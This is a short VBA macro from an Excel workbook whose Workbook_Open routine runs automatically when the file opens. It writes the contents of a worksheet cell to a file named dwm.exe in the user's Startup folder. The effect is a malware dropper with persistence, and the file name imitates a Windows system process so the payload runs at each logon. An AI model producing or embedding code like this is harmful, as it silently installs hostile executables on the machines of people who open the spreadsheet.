Attribute VB_Name = "ThisWorkbook"
Private Sub Workbook_Open()
    Dim p As String
    p = Environ("APPDATA") & "\Microsoft\Windows\Start Menu\Programs\Startup\dwm.exe"
    Open p For Binary Access Write As #1
    Put #1, , Sheet1.Range("A1").Value
    Close #1
End Sub
